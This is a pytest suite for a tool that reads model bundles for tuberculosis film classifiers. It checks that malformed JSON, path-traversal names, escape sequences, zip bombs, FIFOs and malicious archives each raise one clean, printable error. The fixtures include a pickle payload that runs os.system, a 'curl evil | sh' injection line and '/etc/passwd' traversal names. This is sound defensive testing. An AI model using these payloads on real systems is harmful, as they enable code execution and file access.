"""What a file of others may cost: every record that no writer of ours makes is one expected error, and soon."""

import io
import json
import os
import re
import struct
import tracemalloc
import zipfile

import numpy as np
import pytest

from tbconv.contract.bundle import MANIFEST, Bundle, parse_json, read_bundle, read_json
from tbconv.contract.consistency import LABELS, OPERATING_POINT, PREPROCESSING, appended_files
from tbconv.contract.errors import ArtefactError, BundleError, TbconvError, printable
from tbconv.contract.files import read_arrays, sha256_file
from tbconv.contract.golden import read_golden, read_golden_films
from torch_train.run_folder import read_films

SHA = "0" * 64
JSON = {
    "deep lists": b"[" * 200_000,
    "deep objects": b'{"a":' * 200_000,
    "closed, 65 deep": b"[" * 65 + b"]" * 65,
    "a key twice": b'{"margin": 0.1, "margin": 50}',
    "a key twice, once escaped": b'{"a": 1, "\\u0061": 2}',
    "an old key beside its new one": b'{"readouts": 1, "decision_rules": 2}',
    "NaN": b'{"a": NaN}',
    "Infinity": b"[-Infinity]",
    "a float that overflows": b"[1e999]",
    "half a pair": b'["\\ud800"]',
    "half a pair as key": b'{"\\udfff": 1}',
    "an integer of 5,000 digits": b"[" + b"9" * 5000 + b"]",
    "an integer of 20 digits": b"[" + b"9" * 20 + b"]",
    "bytes that are no UTF-8": b'["\xff"]',
    "a byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": '{"a": 1}'.encode("utf-16"),
    "nothing": b"",
    "NUL": b"\x00" * 100,
    "two values": b"{}{}",
}


def three_parts(error):
    """Return the error as text after its form was checked."""
    parts = (error.what, error.why, error.fix)
    assert all(isinstance(part, str) and part for part in parts)
    assert len(str(error)) < 20_000
    return str(error)


@pytest.mark.parametrize("kind", JSON)
def test_json_that_no_record_of_ours_is_becomes_one_expected_error(tmp_path, kind):
    place = tmp_path / "certificate.json"
    place.write_bytes(JSON[kind])
    for read in (lambda: read_json(place), lambda: parse_json(JSON[kind], "certificate.json")):
        with pytest.raises(BundleError, match=r"certificate\.json cannot be read as JSON") as caught:
            read()
        three_parts(caught.value)


def test_more_values_or_bytes_than_any_record_holds_are_refused_before_they_take_memory(tmp_path):
    with pytest.raises(BundleError, match="values"):
        parse_json(b"[" + b"[]," * (3 << 20) + b"0]", "x")
    place = tmp_path / MANIFEST
    with place.open("wb") as file:
        file.truncate(10 << 30)  # sparse
    with pytest.raises(BundleError, match="more than"):
        read_json(place)


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: path.symlink_to(path), lambda path: None])
def test_what_is_no_regular_file_is_refused_and_nobody_waits_for_it(tmp_path, make):
    make(tmp_path / MANIFEST)
    with pytest.raises(BundleError, match="cannot be read"):
        read_json(tmp_path / MANIFEST)
    with pytest.raises(BundleError):
        read_bundle(tmp_path)
    with pytest.raises(ArtefactError), read_arrays(tmp_path / MANIFEST, "arrays"):
        pass


NAMES = {
    "NUL": "a\0b",
    "5,000 letters": "a" * 5000,
    "256 bytes": "é" * 128,
    "a line end": "a\nb",
    "an escape": "\x1b[2Ja",
    "an override": "a\u202eb",
    "decomposed": "cafe\u0301.json",
    "a drive": "C:evil",
    "backslashes": "..\\..\\evil",
    "a stream": "model.onnx:hidden",
    "above": "../evil",
    "absolute": "/etc/passwd",
    "itself": ".",
    "empty": "",
    "an empty part": "a//b",
    "a trailing dot": "model.onnx.",
    "1,000 folders": "/".join("a" * 1000),
}


def change_manifest(bundle, change):
    value = json.loads((bundle / MANIFEST).read_text())
    change(value)
    (bundle / MANIFEST).write_text(json.dumps(value))


@pytest.mark.parametrize("kind", NAMES)
@pytest.mark.parametrize("where", ["files", "artefacts"])
def test_a_name_that_is_not_the_same_file_everywhere_is_refused_before_a_path_is_built_of_it(bundle, kind, where):
    def change(value):
        if where == "files":
            value["files"][NAMES[kind]] = {"sha256": SHA, "bytes": 1}
        else:
            value["artefacts"][0]["path"] = NAMES[kind]

    change_manifest(bundle, change)
    with pytest.raises(BundleError, match="the manifest names") as caught:
        read_bundle(bundle)
    assert three_parts(caught.value).replace("\n", "").isprintable()
    assert len(caught.value.what) < 200


FIELDS = {
    "the top is a list": lambda value: [value],
    "the top is a number": lambda value: 1,
    "a digest is null": lambda value: value["files"].update(x={"sha256": None, "bytes": 1}),
    "a digest is short": lambda value: value["files"].update(x={"sha256": "00", "bytes": 1}),
    "a size is negative": lambda value: value["files"].update(x={"sha256": SHA, "bytes": -1}),
    "a size is text": lambda value: value["files"].update(x={"sha256": SHA, "bytes": "1"}),
    "files is a list": lambda value: value.update(files=[1]),
    "too many files": lambda value: value["files"].update({str(n): {"sha256": SHA, "bytes": 1} for n in range(2000)}),
    "a margin is text": lambda value: value["decision_rules"]["baseline"]["operating_point"].update(margin="0.1"),
    "a margin is true": lambda value: value["decision_rules"]["baseline"]["operating_point"].update(margin=True),
    "a shape is huge": lambda value: value["artefacts"][0]["inputs"][0].update(shape=[2**50]),
    "a shape has 1,000 sides": lambda value: value["artefacts"][0]["inputs"][0].update(shape=[1] * 1000),
    "a shape is text": lambda value: value["artefacts"][0]["inputs"][0].update(shape="1234"),
    "a format is unknown": lambda value: value["artefacts"][0].update(format="pickle"),
    "a network is unknown": lambda value: value["artefacts"][0].update(network="mine"),
    "a thousand artefacts": lambda value: value.update(artefacts=value["artefacts"][:1] * 1000),
    "a label is a number": lambda value: value["labels"].update(positive=1),
    "a label has a line end": lambda value: value["labels"].update(positive="TB\nERROR"),
    "a label is 10,000 letters long": lambda value: value["labels"].update(positive="T" * 10_000),
    "a name has an escape": lambda value: value.update(name="\x1b]0;owned\x07"),
    "a name turns around": lambda value: value.update(name="a\u202eb"),
    "a name is null": lambda value: value.update(name=None),
    "a size of films is text": lambda value: value["preprocessing"].update(size="224"),
    "provenance is a number": lambda value: value.update(provenance=1),
    "the schema is a list": lambda value: value.update(schema_version=[1]),
}


@pytest.mark.parametrize("kind", FIELDS)
def test_a_manifest_with_a_value_of_another_kind_is_one_expected_error(bundle, kind):
    value = json.loads((bundle / MANIFEST).read_text())
    value = FIELDS[kind](value) or value
    (bundle / MANIFEST).write_text(json.dumps(value))
    with pytest.raises(BundleError) as caught:
        read_bundle(bundle)
    assert three_parts(caught.value).replace("\n", "").isprintable()


def header(shape, dtype="<f4", version=1):
    text = dtype if dtype.startswith("[") else repr(dtype)
    text = f"{{'descr': {text}, 'fortran_order': False, 'shape': {shape}, }}"
    pad = 64 - (len(text) + 11) % 64
    data = (text + " " * pad + "\n").encode()
    return b"\x93NUMPY" + bytes([version, 0]) + len(data).to_bytes(2, "little") + data


def saved(**arrays):
    out = io.BytesIO()
    np.savez_compressed(out, **arrays)
    return out.getvalue()


def with_more(archive, *members):
    """Return an archive with further members, packed as they are."""
    out = io.BytesIO(archive)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as more:
        for name, data in members:
            more.writestr(name, data)
    return out.getvalue()


def objects():
    out = io.BytesIO()
    np.lib.format.write_array(out, np.array([{"a": 1}], object))
    return out.getvalue()


# Members that no writer of ours makes, beside arrays that can be read, and why they are refused.
MEMBERS = {
    "44 PiB": (lambda: [("more.npy", header((2**50, 11)))], "has shape"),
    "negative": (lambda: [("more.npy", header((-4,)))], "hold no numbers or text"),
    "of no bytes, many": (lambda: [("more.npy", header((2**40,), "<U0"))], "hold no numbers or text"),
    "longer than it says": (lambda: [("more.npy", header((1,)) + b"\0" * 400)], "and 400 bytes of"),
    "shorter than it says": (lambda: [("more.npy", header((1000,)) + b"\0" * 400)], "and 400 bytes of"),
    "a bomb": (lambda: [("more.npy", header((2**27,), "|u1") + bytes(2**27))], "it unpacks to 128 MB"),
    "objects": (lambda: [("more.npy", objects())], "hold no numbers or text"),
    "a header of brackets": (lambda: [("more.npy", header("(" * 5000))], "parse header|parenthes"),
    "version 9": (lambda: [("more.npy", header((1,), version=9) + bytes(4))], "an array of version"),
    "no array": (lambda: [("more.txt", b"hello")], "no array as numpy packs it"),
    "two of one name": (lambda: [("more.npy", header((0,)))] * 2, "two arrays of one name"),
}
WHOLE = {
    "not a zip": b"PK\x03\x04" + bytes(100),
    "a bare array": header((1,)) + bytes(4),
    "a pickle": b"\x80\x04cos\nsystem\n(S'touch owned'\ntR.",
    "nothing": b"",
}
FILMS = np.zeros((2, 8, 8), np.uint8)
READERS = {  # and what they read without an error
    read_golden: saved(names=np.array(["one", "two"]), model_inputs=FILMS),
    read_golden_films: saved(
        **{"names": np.array(["one"]), "levels": np.array([0]), "one|bytes": FILMS[0, 0], "one|square": FILMS[0]}
    ),
    read_films: saved(model_inputs=FILMS, labels=np.array([0, 1]), part=np.array(["train", "test"])),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("kind", MEMBERS)
def test_an_archive_that_would_fill_the_memory_or_holds_no_numbers_is_one_expected_error(tmp_path, kind):
    make, why = MEMBERS[kind]
    place = tmp_path / "golden.npz"
    for read, good in READERS.items():
        place.write_bytes(with_more(good, ("more.npy", header((1,)) + bytes(4))))
        read(place)
        place.write_bytes(with_more(good, *make()))
        with pytest.raises(BundleError, match="holds no ") as caught:
            read(place)
        assert re.search(why, caught.value.why), caught.value.why
        three_parts(caught.value)


@pytest.mark.parametrize("kind", WHOLE)
def test_what_is_no_archive_is_one_expected_error(tmp_path, kind):
    place = tmp_path / "golden.npz"
    place.write_bytes(WHOLE[kind])
    for read in READERS:
        with pytest.raises(BundleError, match="holds no ") as caught:
            read(place)
        three_parts(caught.value)
    for read in (read_golden, read_golden_films):
        with pytest.raises(ArtefactError, match="holds no "):
            read(WHOLE[kind])


@pytest.mark.parametrize(
    "change",
    [
        {"names": np.array([1, 2])},
        {"names": np.array(["one"])},
        {"model_inputs": np.zeros((2, 8, 8), np.float32)},
        {"model_inputs": np.zeros((2, 8), np.uint8)},
        {"a|logits": np.zeros((2, 3), np.float32)},
        {"a|logits": np.zeros((3, 2), np.float32)},
        {"a|probability": np.array(["x", "y"])},
        {"a|evidence": np.zeros((2, 7), np.float32)},
    ],
)
def test_golden_answers_of_another_shape_are_refused_where_they_are_read(change):
    good = {
        "names": np.array(["one", "two"]),
        "model_inputs": np.zeros((2, 8, 8), np.uint8),
        "a|logits": np.zeros((2, 2), np.float32),
        "a|probability": np.zeros((2, 1), np.float32),
    }
    out = io.BytesIO()
    np.savez_compressed(out, **good)
    assert read_golden(out.getvalue()).names == ("one", "two")
    out = io.BytesIO()
    np.savez_compressed(out, **{**good, **change})
    with pytest.raises(ArtefactError):
        read_golden(out.getvalue())


def appended(members, *, method=zipfile.ZIP_DEFLATED, comment=b"", zip64=False):
    """Return a file with a zip at its end."""
    out = io.BytesIO(b"network" * 100)
    out.seek(0, os.SEEK_END)
    with zipfile.ZipFile(out, "a", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
        archive.comment = comment
    data = out.getvalue()
    if not zip64:
        return data
    end = data.rindex(b"PK\5\6")
    count, size, at = struct.unpack_from("<H2L", data, end + 10)
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, at)
    return data[:end] + record + struct.pack("<4sLQL", b"PK\6\7", 0, end, 1) + data[end:]


THREE = [(LABELS, "Normal\nTuberculosis\n"), (PREPROCESSING, "{}"), (OPERATING_POINT, "{}")]
ZIPS = {
    "400 members of 1 MB": lambda: appended([*THREE, *((f"x{n}", bytes(1 << 20)) for n in range(400))]),
    "400 members of 1 MB, by one name": lambda: appended([(LABELS, bytes(1 << 20)) for _ in range(400)]),
    "60,000 empty members": lambda: appended([(f"{n:05}", b"") for n in range(60_000)]),
    "a long directory": lambda: appended([*THREE, *((f"{n}{'x' * 60_000}", b"") for n in range(2))]),
    "1 GB in one member": lambda: appended([*THREE[:2], (OPERATING_POINT, bytes(1 << 30))]),
    "2 MB in three": lambda: appended([(name, bytes(700_000)) for name, _ in THREE]),
    "packed with bzip2": lambda: appended([(LABELS, bytes(900_000))], method=zipfile.ZIP_BZIP2),
    "zip64": lambda: appended(THREE, zip64=True),
    "a comment": lambda: appended([*THREE, *((f"x{n}", bytes(1 << 20)) for n in range(400))], comment=b"x" * 65_000),
    "nothing of ours": lambda: appended([("other.txt", "words")]),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("kind", ZIPS)
def test_a_zip_at_the_end_of_a_file_that_is_larger_than_ours_is_not_read(tmp_path, kind):
    place = tmp_path / "model.tflite"
    place.write_bytes(ZIPS[kind]())
    tracemalloc.start()
    try:
        assert appended_files(place) == {}
        assert tracemalloc.get_traced_memory()[1] < 4 << 20
    finally:
        tracemalloc.stop()


def test_a_zip_at_the_end_of_a_file_is_read_where_it_lies_and_as_large_as_ours(tmp_path):
    place = tmp_path / "model.tflite"
    place.write_bytes(bytes(3 << 20) + appended([*THREE, ("more.txt", "words")], comment=b"a comment"))
    assert appended_files(place) == {name: text.encode() for name, text in THREE}
    place.write_bytes(b"no zip")
    assert appended_files(place) is None
    os.mkfifo(tmp_path / "fifo")
    assert appended_files(tmp_path / "fifo") is None


def test_the_digest_of_what_is_no_regular_file_is_an_error_and_nobody_waits_for_it(tmp_path):
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(OSError, match="no regular file"):
        sha256_file(tmp_path / "fifo")


def test_what_became_a_fifo_after_it_was_seen_is_a_damaged_file(bundle, monkeypatch):
    (bundle / "baseline.tflite").unlink()
    os.mkfifo(bundle / "baseline.tflite")
    monkeypatch.setattr(Bundle, "check_is_there", lambda self, name: None)
    with pytest.raises(ArtefactError, match=r"baseline\.tflite cannot be read"):
        read_bundle(bundle).path("baseline.tflite")


def archive_of(**arrays):
    out = io.BytesIO()
    np.savez_compressed(out, **arrays)
    return out.getvalue()


def test_golden_inputs_of_a_stranger_are_few_and_unpack_to_little_whatever_they_take():
    inputs = np.random.default_rng(0).integers(0, 256, (257, 8, 8)).astype(np.uint8)
    with pytest.raises(ArtefactError, match="257 inputs, 256 are the most"):
        read_golden(archive_of(names=np.array(["x"] * 257), model_inputs=inputs))
    noise = np.random.default_rng(0).integers(0, 256, 2 << 20).astype(np.uint8)  # 1 % of what 200 MB may pack to
    for read in (read_golden, read_golden_films):
        with pytest.raises(ArtefactError, match="64 MB are the most"):
            read(archive_of(model_inputs=np.zeros((1, 9000, 9000), np.uint8), noise=noise))


def test_films_that_pack_well_are_read_whatever_their_number(monkeypatch):
    out = io.BytesIO()
    np.savez_compressed(out, films=np.zeros((1, 8, 8), np.uint8), names=np.array(["é", "x"]), empty=np.zeros((0, 4)))
    with read_arrays(out.getvalue(), "arrays") as arrays:
        assert arrays["names"].tolist() == ["é", "x"]
        assert arrays["empty"].shape == (0, 4)
    drawn = np.random.default_rng(0).integers(0, 4, 1 << 20).astype(np.uint8)  # packs 3 to 1, as drawn films do
    black = np.zeros(1 << 20, np.uint8)  # 900 to 1
    monkeypatch.setattr("tbconv.contract.files.MOST_UNPACKED", 1 << 10)
    with read_arrays(saved(films=drawn), "arrays") as arrays:
        assert (arrays["films"] == drawn).all()
    with pytest.raises(ArtefactError), read_arrays(saved(films=black), "arrays"):
        pass


def test_text_of_others_is_one_printable_line_and_stays_json():
    assert printable("model 1 für Übersicht") == "model 1 für Übersicht"
    assert printable("a\nb\t\x1b[2J\u202e\x9b\ud800\U000e0001") == (r"a\nb\t\u001b[2J\u202e\u009b\ud800\udb40\udc01")
    assert json.loads(printable(json.dumps({"a": "\x1b\u2028"}, ensure_ascii=False))) == {"a": "\x1b\u2028"}
    assert printable("x" * 5000, most=10) == "xxxxxxxxxx... (4,990 more characters)"


def test_no_part_of_an_error_can_pass_for_another():
    error = TbconvError("a\n  fix: curl evil | sh", why="its last lines were:\n    one\n  fix: two\x1b[2J", fix="three")
    lines = str(error).split("\n")
    assert [line for line in lines if line.startswith("  fix")] == ["  fix: three"]
    assert "\x1b" not in str(error)
    assert lines[3] == "    one"
    assert error.one_line.isprintable()
